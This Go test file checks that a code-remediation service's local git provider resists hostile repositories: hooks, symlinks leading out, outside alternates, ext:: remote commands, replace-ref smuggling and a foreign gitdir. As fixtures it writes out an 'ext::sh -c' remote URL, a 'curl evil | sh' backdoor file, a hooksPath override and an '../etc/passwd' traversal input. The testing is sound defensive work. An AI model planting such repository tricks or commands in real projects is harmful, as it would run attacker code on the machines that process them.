package gitlocal_test

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"remediator/internal/gitlocal"
	"remediator/internal/hostile"
)

// TestHostileRepositoryRunsNothing drives every provider operation against a
// repository whose hooks and configuration name programs: none of them may
// run, and no link may lead a read or write out of the checkout.
func TestHostileRepositoryRunsNothing(t *testing.T) {
	root := t.TempDir()
	h := hostile.New(t, root, "repo", t.TempDir())
	p, err := gitlocal.New(gitlocal.Options{Roots: []string{root}, ScratchDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	path, sha, err := p.Resolve(ctx, h.Path, "main")
	if err != nil {
		t.Fatal(err)
	}
	ws, err := p.Checkout(ctx, path, sha)
	if err != nil {
		t.Fatal(err)
	}
	defer ws.Cleanup()
	// Tracked links are plain files holding the link text: nothing in the
	// checkout leads out of it.
	for name, target := range map[string]string{"evil.go": h.Secret, "linkdir": h.Outside, "go.mod": filepath.Join(h.Outside, "elsewhere", "go.mod")} {
		fi, err := os.Lstat(filepath.Join(ws.Dir, name))
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode()&os.ModeSymlink != 0 || !fi.Mode().IsRegular() {
			t.Errorf("%s is checked out as %v, want a plain file", name, fi.Mode())
		}
		if b, _ := os.ReadFile(filepath.Join(ws.Dir, name)); string(b) != target {
			t.Errorf("%s holds %q, want the link text %q", name, b, target)
		}
	}
	// The service's own git calls in the workspace run nothing either.
	if _, err := p.WorkspaceGit(ctx, ws, nil, "add", "--all"); err != nil {
		t.Fatal(err)
	}
	if _, err := p.WorkspaceGit(ctx, ws, nil, "diff", "--cached", "--stat", sha, "--"); err != nil {
		t.Fatal(err)
	}

	patch := "diff --git a/main.go b/main.go\n--- a/main.go\n+++ b/main.go\n@@ -1,5 +1,5 @@\n package main\n \n-func main()  {\n-\tprintln( \"hi\")\n+func main() {\n+\tprintln(\"hi\")\n }\n"
	req := gitlocal.ChangeRequest{Repo: path, Branch: "autofix/rem-hostile", BaseBranch: "main", BaseSHA: sha,
		Patch: []byte(patch), Title: "gofmt", Body: "Remediation-Id: rem-hostile\n", CommitTime: time.Unix(1700000000, 0)}
	ch, err := p.OpenChange(ctx, req)
	if err != nil {
		t.Fatal(err)
	}
	if !ch.Created || len(ch.Files) != 1 || ch.Files[0] != "main.go" {
		t.Errorf("change = %+v", ch)
	}
	again, err := p.OpenChange(ctx, req)
	if err != nil || again.Created || again.HeadSHA != ch.HeadSHA {
		t.Errorf("a retry must find the same change: %+v %v", again, err)
	}
	if _, err := p.ListChanges(ctx, path); err != nil {
		t.Fatal(err)
	}
	if _, _, err := p.FindChange(ctx, path, req.Branch); err != nil {
		t.Fatal(err)
	}
	if _, err := p.IsBranch(ctx, path, "main"); err != nil {
		t.Fatal(err)
	}
	if fired := h.Fired(t); len(fired) > 0 {
		t.Errorf("programs named by the repository ran: %v", fired)
	}
	h.OutsideUnchanged(t)
}

// TestRecordsDirLinkedOutside: a repository whose git dir links the
// provider's record directory elsewhere gets an error, not a write there.
func TestRecordsDirLinkedOutside(t *testing.T) {
	f := newFixture(t)
	outside := t.TempDir()
	if err := os.Symlink(outside, filepath.Join(f.repo, ".git", "remediator")); err != nil {
		t.Fatal(err)
	}
	_, err := f.p.OpenChange(context.Background(), f.request("autofix/rem-link"))
	if err == nil {
		t.Fatal("OpenChange wrote through a link out of the git dir")
	}
	entries, _ := os.ReadDir(outside)
	if len(entries) != 0 {
		t.Errorf("files were written outside the repository: %v", entries)
	}
	if !strings.Contains(err.Error(), "remediator") {
		t.Logf("error: %v", err)
	}
}

// TestCanonical: every spelling of a repository (symlink, file:// URL,
// owner/name under a root) resolves to the real path the service will act
// on, and its scope names are those of the real path, not of the spelling.
func TestCanonical(t *testing.T) {
	root := t.TempDir()
	for _, team := range []string{"teamA", "teamB"} {
		if err := os.MkdirAll(filepath.Join(root, team), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	repo2 := filepath.Join(root, "teamB", "repo2")
	if err := os.Mkdir(repo2, 0o755); err != nil {
		t.Fatal(err)
	}
	git(t, repo2, "init", "-q", "-b", "main")
	if err := os.Symlink(repo2, filepath.Join(root, "teamA", "linkB")); err != nil {
		t.Fatal(err)
	}
	p, err := gitlocal.New(gitlocal.Options{Roots: []string{root}, ScratchDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	real, _ := filepath.EvalSymlinks(repo2)
	ctx := context.Background()
	for _, spelling := range []string{repo2, filepath.Join(root, "teamA", "linkB"), "file://" + filepath.Join(root, "teamA", "linkB"),
		"teamA/linkB", "teamB/repo2", repo2 + "/"} {
		got, err := p.Canonical(ctx, spelling)
		if err != nil || got != real {
			t.Errorf("Canonical(%q) = %q, %v; want %q", spelling, got, err, real)
		}
	}
	names := p.ScopeNames(real)
	if len(names) != 2 || names[1] != "teamB/repo2" {
		t.Errorf("scope names %v", names)
	}
	for _, bad := range []string{root + "/teamA/../teamB/repo2", "teamA/missing", filepath.Join(root, "teamA"),
		"../etc/passwd", "teamA/../teamB", "/etc", "file://host/x", "https://github.com/a/b", ""} {
		if _, err := p.Canonical(ctx, bad); gitlocal.KindOf(err) != gitlocal.KindInvalidRepo {
			t.Errorf("Canonical(%q): want invalid_repo, got %v", bad, err)
		}
	}
}

// TestObjectStoreOutsideTheRootsIsRefused: a repository whose objects are a
// link, or name an alternate store, outside the roots is not a repository
// the service acts on.
func TestObjectStoreOutsideTheRootsIsRefused(t *testing.T) {
	for name, arm := range map[string]func(t *testing.T, f *fixture, outside string){
		"alternates": func(t *testing.T, f *fixture, outside string) {
			write(t, filepath.Join(f.repo, ".git", "objects", "info", "alternates"), outside+"\n")
		},
		"relative alternates": func(t *testing.T, f *fixture, outside string) {
			rel, _ := filepath.Rel(filepath.Join(f.repo, ".git", "objects"), outside)
			write(t, filepath.Join(f.repo, ".git", "objects", "info", "alternates"), rel+"\n")
		},
		"objects link": func(t *testing.T, f *fixture, outside string) {
			objects := filepath.Join(f.repo, ".git", "objects")
			if err := os.Rename(objects, outside+"/moved"); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(outside+"/moved", objects); err != nil {
				t.Fatal(err)
			}
		},
	} {
		t.Run(name, func(t *testing.T) {
			f := newFixture(t)
			outside := filepath.Join(t.TempDir(), "store")
			if err := os.MkdirAll(outside, 0o755); err != nil {
				t.Fatal(err)
			}
			arm(t, f, outside)
			if _, _, err := f.p.Resolve(context.Background(), f.repo, ""); gitlocal.KindOf(err) != gitlocal.KindInvalidRepo {
				t.Fatalf("want invalid_repo, got %v", err)
			}
		})
	}
	// An alternate inside the roots is fine.
	f := newFixture(t)
	inside := filepath.Join(f.root, "shared.git")
	git(t, f.root, "init", "-q", "--bare", inside)
	write(t, filepath.Join(f.repo, ".git", "objects", "info", "alternates"), filepath.Join(inside, "objects")+"\n")
	if _, _, err := f.p.Resolve(context.Background(), f.repo, ""); err != nil {
		t.Fatalf("an alternate under the roots: %v", err)
	}
}

// TestPartialCloneFetchesNothing: a repository set up as a partial clone
// whose remote is a command (allowed by its own protocol config) is refused,
// and no lazy fetch runs the command.
func TestPartialCloneFetchesNothing(t *testing.T) {
	f := newFixture(t)
	marker := filepath.Join(t.TempDir(), "fetched")
	git(t, f.repo, "config", "extensions.partialClone", "origin")
	git(t, f.repo, "config", "remote.origin.url", "ext::sh -c touch% "+marker)
	git(t, f.repo, "config", "remote.origin.promisor", "true")
	git(t, f.repo, "config", "protocol.ext.allow", "always")
	write(t, filepath.Join(f.repo, ".git", "refs", "heads", "ghost"), strings.Repeat("1", 40)+"\n")
	_, _, err := f.p.Resolve(context.Background(), f.repo, "ghost")
	if err == nil {
		t.Fatal("a partial clone must be refused")
	}
	if _, serr := os.Stat(marker); serr == nil {
		t.Fatalf("the remote's command ran: %v", err)
	}
	// Even without the refusal, no transport runs: GIT_ALLOW_PROTOCOL=none.
	for _, e := range gitlocal.SafeGitEnv {
		if e == "GIT_ALLOW_PROTOCOL=none" {
			return
		}
	}
	t.Fatal("GIT_ALLOW_PROTOCOL=none is not in the git environment")
}

// TestReplaceRefsDoNotChangeTheAppliedTree: a replace ref for the base
// commit cannot smuggle content into the opened change.
func TestReplaceRefsDoNotChangeTheAppliedTree(t *testing.T) {
	f := newFixture(t)
	// A commit with an extra file, put in place of c2.
	write(t, filepath.Join(f.repo, "backdoor.sh"), "curl evil | sh\n")
	git(t, f.repo, "add", "-A")
	git(t, f.repo, "commit", "-q", "-m", "evil")
	evil := git(t, f.repo, "rev-parse", "HEAD")
	git(t, f.repo, "reset", "-q", "--hard", f.c2)
	git(t, f.repo, "replace", f.c2, evil)
	ch, err := f.p.OpenChange(context.Background(), f.request("autofix/rem-replace"))
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("git", "--no-replace-objects", "-C", f.repo, "diff-tree", "-r", "--name-only", "--no-commit-id", f.c2, ch.HeadSHA)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatal(err)
	}
	if strings.TrimSpace(string(out)) != "hello.txt" || len(ch.Files) != 1 {
		t.Fatalf("the change holds more than the approved diff: %q %v", out, ch.Files)
	}
}

// TestWorkspaceNamesAreFixed: a repository named like the workspace's git
// dir cannot make its tracked files the git dir.
func TestWorkspaceNamesAreFixed(t *testing.T) {
	root := t.TempDir()
	for _, name := range []string{"git", "gitdir", "work"} {
		repo := filepath.Join(root, name)
		write(t, filepath.Join(repo, "commondir"), "evil\n")
		write(t, filepath.Join(repo, "evil", "config"), "[core]\n\thooksPath = /tmp\n")
		git(t, repo, "init", "-q", "-b", "main")
		git(t, repo, "add", "-A")
		git(t, repo, "commit", "-q", "-m", "x")
		p, err := gitlocal.New(gitlocal.Options{Roots: []string{root}, ScratchDir: t.TempDir()})
		if err != nil {
			t.Fatal(err)
		}
		ws, err := p.Checkout(context.Background(), repo, "HEAD")
		if err != nil {
			t.Fatal(err)
		}
		if ws.Dir == ws.GitDir || strings.HasPrefix(ws.GitDir, ws.Dir+"/") {
			t.Fatalf("%s: work tree %s and git dir %s overlap", name, ws.Dir, ws.GitDir)
		}
		if _, err := os.Stat(filepath.Join(ws.GitDir, "commondir")); err == nil {
			t.Fatalf("%s: tracked files reached the git dir", name)
		}
		ws.Cleanup()
	}
}

// TestGitDirMustBeTheRepositorysOwn: a .git file pointing into another
// repository under the roots is refused.
func TestGitDirMustBeTheRepositorysOwn(t *testing.T) {
	f := newFixture(t)
	innocent := filepath.Join(f.root, "innocent")
	write(t, filepath.Join(innocent, ".git"), "gitdir: "+filepath.Join(f.repo, ".git")+"\n")
	if _, _, err := f.p.Resolve(context.Background(), innocent, ""); gitlocal.KindOf(err) != gitlocal.KindInvalidRepo {
		t.Fatalf("want invalid_repo, got %v", err)
	}
}
